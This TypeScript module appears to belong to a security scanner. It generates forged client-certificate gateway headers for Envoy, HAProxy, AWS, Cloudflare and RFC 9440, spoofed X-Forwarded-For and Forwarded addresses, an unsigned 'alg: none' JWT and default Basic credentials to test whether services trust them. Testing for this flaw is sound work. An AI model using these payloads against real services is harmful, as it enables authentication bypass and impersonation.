import { createHash } from "node:crypto";
import { oids } from "../../pki/oids.ts";
import { shortAttributeName } from "../../pki/name.ts";
import { encodePem } from "../../pki/pem.ts";
import type { Certificate } from "../../pki/verify/certificate.ts";
import { displayBytes, displayName, type Name, textsOf } from "../../pki/verify/name.ts";
import { type Attack, asking, type Attempt } from "../attack.ts";
import type { Protocol } from "../protocol.ts";
import type { HttpRequest } from "../protocols/http.ts";
import { asMarkedRequest } from "../variant.ts";
import { ignoreHeaders } from "./fixes.ts";

type Fields = Readonly<Record<string, string>>;
/** What one gateway writes; a name may have another value with another one. */
type Spoof = readonly [kind: string, fields: Fields];

/**
 * What gateways write about a client, as they write it: for services that believe whoever sends it. Each
 * names a valid client and holds its certificate, which is public.
 * @param cas the client's, DER
 */
function spoofs(client: Certificate, cas: readonly Uint8Array[]): readonly Spoof[] {
  const { der } = client;
  const escaped = encodeURIComponent(encodePem("CERTIFICATE", der));
  const base64 = Buffer.from(der).toString("base64");
  const digest = (algorithm: string) => createHash(algorithm).update(der);
  const sha1 = digest("sha1").digest("hex");
  const sha256 = digest("sha256").digest("hex");
  const serial = client.serial.toUpperCase();
  const subject = headerText(displayName(client.subject));
  const issuer = headerText(displayName(client.issuer));
  const name = headerText(textsOf(client.subject, oids.commonName)[0] ?? "fleetsec-probe");
  const uris = namesOf(client, "uri");
  const [uri = "spiffe://fleet.internal/fleetsec-probe"] = uris;
  const slashes = onOneLine(client.subject);
  const quoted = { "x-ssl-client-dn": `"${slashes}"`, "x-ssl-client-cn": `"${name}"` };
  return [
    // in the order of Envoy
    [
      "X-Forwarded-Client-Cert",
      {
        "x-forwarded-client-cert": [
          "By=spiffe://fleet.internal/gateway",
          `Hash=${sha256}`,
          `Cert="${escaped}"`,
          `Subject="${subject.replaceAll('"', '\\"')}"`,
          ...(uris.length > 0 ? uris : [uri]).map((one) => `URI=${one}`),
          ...namesOf(client, "dns").map((one) => `DNS=${one}`),
        ].join(";"),
      },
    ],
    [
      "X-SSL-Client-*",
      {
        "x-ssl-client-verify": "SUCCESS",
        "x-ssl-client-dn": subject,
        "x-ssl-client-s-dn": subject,
        "x-ssl-client-i-dn": issuer,
        "x-ssl-client-cn": name,
        "x-ssl-client-serial": serial,
        "x-ssl-client-fingerprint": sha1,
        "x-ssl-client-cert": escaped,
      },
    ],
    // 0 is how HAProxy says that nothing is wrong
    [
      "X-SSL-Client-* of HAProxy",
      {
        "x-ssl": "1",
        "x-ssl-client": "1",
        "x-ssl-client-used": "1",
        "x-ssl-client-verify": "0",
        "x-ssl-client-dn": slashes,
        "x-ssl-client-s-dn": slashes,
        "x-ssl-client-i-dn": onOneLine(client.issuer),
        "x-ssl-issuer": onOneLine(client.issuer),
        "x-ssl-client-cn": name,
        "x-ssl-client-serial": serial,
        "x-ssl-client-sha1": sha1.toUpperCase(),
        "x-ssl-client-fingerprint": sha1.toUpperCase(),
        "x-ssl-client-der": base64,
        "x-ssl-client-cert": base64,
      },
    ],
    // `%{+Q}`, as in its documentation
    ["X-SSL-Client-* of HAProxy, quoted", { ...quoted, "x-ssl-client-verify": "0" }],
    [
      "SSL-Client-*",
      {
        "ssl-client-verify": "SUCCESS",
        "ssl-client-subject-dn": subject,
        "ssl-client-issuer-dn": issuer,
        "ssl-client-cert": escaped,
      },
    ],
    [
      "X-Client-Cert",
      {
        "x-client-cert": escaped,
        "x-client-verify": "SUCCESS",
        "x-client-dn": subject,
        "x-client-cert-present": "true",
        "x-client-cert-chain-verified": "true",
        "x-client-cert-verified": "true",
        "x-client-cert-hash": digest("sha256").digest("base64"),
        "x-client-cert-fingerprint": sha256,
        "x-client-cert-serial-number": serial,
        "x-client-cert-spiffe": uri,
      },
    ],
    ["X-SSL-Cert", { "x-ssl-cert": escaped }],
    // RFC 9440, sections 2.2 and 2.3
    [
      "Client-Cert",
      {
        "client-cert": `:${base64}:`,
        "client-cert-chain": (cas.length > 0 ? cas : [der])
          .map((one) => `:${Buffer.from(one).toString("base64")}:`)
          .join(", "),
      },
    ],
    [
      "X-Forwarded-Tls-Client-Cert",
      {
        "x-forwarded-tls-client-cert": encodeURIComponent(base64),
        "x-forwarded-tls-client-cert-info": encodeURIComponent(`Subject="${subject}"`),
      },
    ],
    [
      "X-Amzn-Mtls-Clientcert",
      {
        "x-amzn-mtls-clientcert": escaped,
        "x-amzn-mtls-clientcert-leaf": escaped,
        "x-amzn-mtls-clientcert-subject": subject,
        "x-amzn-mtls-clientcert-issuer": issuer,
        "x-amzn-mtls-clientcert-serial-number": serial,
      },
    ],
    ["X-ARR-ClientCert", { "x-arr-clientcert": base64 }],
    [
      "Cf-Client-Cert-*",
      {
        "cf-client-cert-verified": "true",
        "cf-client-cert-der-base64": base64,
        "cf-cert-presented": "true",
        "cf-cert-verified": "true",
        "cf-cert-revoked": "false",
        "cf-cert-subject-dn": subject,
        "cf-cert-issuer-dn": issuer,
        "cf-cert-serial": serial,
        "cf-cert-fingerprint-sha1": sha1,
        "cf-cert-fingerprint-sha256": sha256,
      },
    ],
    // of Kubernetes, AWS and Google: load balancers have no certificate
    ["User-Agent", { "user-agent": "kube-probe/1.31 ELB-HealthChecker/2.0 GoogleHC/1.0" }],
    ...ADDRESSES.map(from),
    ["Authorization: Bearer", { authorization: `Bearer ${unsignedToken(name)}` }],
    // of nobody's: a password that is tried on a client's own name may lock it out
    [
      "Authorization: Basic",
      { authorization: `Basic ${Buffer.from("fleetsec-probe:fleetsec-probe").toString("base64")}` },
    ],
  ];
}

/**
 * Where clients may come from that need no certificate: the machine itself, a private network (RFC 1918). Of two, services
 * believe the first, which the client is said to have, or the last, which the nearest gateway would have written.
 */
const ADDRESSES = [
  ["127.0.0.1", "10.0.0.1", "https"],
  // what came without TLS may be from within
  ["10.0.0.1", "127.0.0.1", "http"],
  ["192.168.0.1", "172.16.0.1", "https"],
  ["172.16.0.1", "::1", "https"],
  ["::1", "192.168.0.1", "https"],
] as const;

function from([first, last, scheme]: (typeof ADDRESSES)[number]): Spoof {
  // RFC 7239, sections 4 and 6
  const node = (address: string) => (address.includes(":") ? `"[${address}]"` : address);
  return [
    `X-Forwarded-For: ${first}, ${last}`,
    {
      "x-forwarded-for": `${first}, ${last}`,
      "x-forwarded-proto": scheme,
      "x-real-ip": first,
      "x-client-ip": first,
      "true-client-ip": first,
      "cf-connecting-ip": first,
      forwarded: `for=${node(first)};host=localhost;proto=${scheme}, for=${node(last)}`,
    },
  ];
}

/** As a page of the service's own would ask: any client can say so (RFC 9110, section 10.1.3, and RFC 6454, section 7). */
function fromOwnPage({ authority }: HttpRequest): Spoof {
  const origin = `https://${authority}`;
  return ["Referer, Origin", { referer: `${origin}/`, origin }];
}

/** A token that nobody signed (RFC 7519, section 6), good until the year 2100. */
function unsignedToken(subject: string): string {
  const parts = [
    { alg: "none", typ: "JWT" },
    { sub: subject, exp: 4_102_444_800 },
  ];
  return `${parts.map((part) => Buffer.from(JSON.stringify(part)).toString("base64url")).join(".")}.`;
}

function namesOf({ subjectAltName = [] }: Certificate, type: "uri" | "dns"): string[] {
  return subjectAltName.flatMap((one) => (one.type === type ? [headerText(one.value)] : []));
}

/** `/O=Acme/CN=unit-7`, in the order of the name: OpenSSL's old form, which HAProxy and nginx (`_legacy`) still write. */
function onOneLine({ rdns }: Name): string {
  const parts = rdns
    .flat()
    .map(({ oid, text, der }) => `/${shortAttributeName(oid)}=${text ?? displayBytes(der)}`);
  return headerText(parts.join(""));
}

/** What stands in a certificate must not write a field of its own. */
const headerText = (text: string) => text.replaceAll(/[^\u0020-\u007e]/g, "?");

/** Many services take 8 KiB of fields at most, the usual ones and a reverse proxy's own among them. */
const MAX_FIELDS = 4096;

/** Few requests for all: who is denied with all of them is denied with each. Never two values of one name. */
function inFewRequests(all: readonly Spoof[]): Spoof[][] {
  const requests: Spoof[][] = [];
  for (const spoof of all) {
    const room = requests.find((request) => fits(request, spoof));
    if (room === undefined) requests.push([spoof]);
    else room.push(spoof);
  }
  return requests;
}

function fits(request: readonly Spoof[], [, fields]: Spoof): boolean {
  const known = Object.assign({}, ...request.map(([, others]) => others)) as Fields;
  const size = Object.entries({ ...known, ...fields }).join(": \r\n").length;
  // a service that looks for a token or a password first turns the wrong one down, and looks no further
  const isAlone = "authorization" in known || "authorization" in fields;
  return !isAlone && size <= MAX_FIELDS && Object.keys(fields).every((name) => known[name] === undefined);
}

function spoofing(http: NonNullable<Protocol["http"]>, some: readonly Spoof[]): Attempt {
  const { request, ask } = http;
  const fields = Object.assign({}, ...some.map(([, one]) => one)) as Fields;
  const own = request.fields.filter(([name]) => fields[name] === undefined);
  const half = Math.ceil(some.length / 2);
  return {
    ...asking(
      ask({ ...request, fields: [...own, ...Object.entries(fields)] }),
      some.map(([kind]) => kind).join(", "),
    ),
    revise: asMarkedRequest,
    smaller: () =>
      some.length < 2 ? [] : [some.slice(0, half), some.slice(half)].map((part) => spoofing(http, part)),
  };
}

export const headerSpoof: Attack = {
  id: "header-spoof",
  title: "header fields in place of one",
  reference: "RFC 9440 section 4",
  meaning: "whoever writes what a gateway would write is taken for a client with a certificate",
  fix: ignoreHeaders,
  weight: "required",
  takesIdentity: false,
  versions: ["1.3", "1.2"],
  async plan({ protocol: { http }, forgery }) {
    if (http === undefined) return { outcome: "not-applicable", reason: "the service speaks no HTTP" };
    const [leaf] = forgery.control?.chain ?? [];
    if (leaf === undefined)
      return { outcome: "not-run", reason: "needs a valid client's certificate, which it names" };
    const requests = inFewRequests([...spoofs(leaf, forgery.clientCas), fromOwnPage(http.request)]);
    return { attempts: requests.map((some) => spoofing(http, some)) };
  },
};
